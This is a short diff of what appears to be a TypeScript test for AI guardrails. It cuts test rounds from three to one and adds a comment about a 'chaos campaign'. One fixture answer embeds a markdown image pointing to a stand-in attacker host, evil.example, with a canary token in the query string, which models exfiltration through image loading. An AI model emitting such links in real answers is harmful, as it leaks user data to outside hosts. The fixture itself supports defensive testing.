@@ -39,7 +39,8 @@ const ANSWERS = [
   'Veja ![x](https://evil.example/p.png?d=canariolink4d) ali.',
 ].map((text) => text.split(/(?<= )/));
 
-const ROUNDS = 3;
+/** The kills at every point are those of the chaos campaign. */
+const ROUNDS = 1;
 
 describe('text that the guardrails stopped', () => {
   let provider: OpenAiServer;
